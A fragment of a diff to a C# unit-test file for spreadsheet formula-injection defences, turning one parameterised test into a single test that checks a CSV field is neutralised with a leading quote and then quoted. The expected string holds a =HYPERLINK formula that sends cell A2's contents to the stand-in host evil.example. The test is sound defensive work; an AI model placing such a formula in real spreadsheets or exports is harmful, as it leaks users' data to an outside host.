@@ -36,8 +36,7 @@ public sealed class FormulaInjectionTests
     public void A_text_that_would_start_a_formula_is_prefixed_with_a_single_quote(string given, string expected) =>
         Assert.Equal(expected, SpreadsheetText.Neutralise(given));
 
-    [Theory]
-    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
+    [Fact]
     public void A_csv_text_field_is_neutralised_then_quoted_and_a_number_stays_a_number()
     {
         Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2;\"\"click\"\")\"", SpreadsheetText.CsvField(Hyperlink));
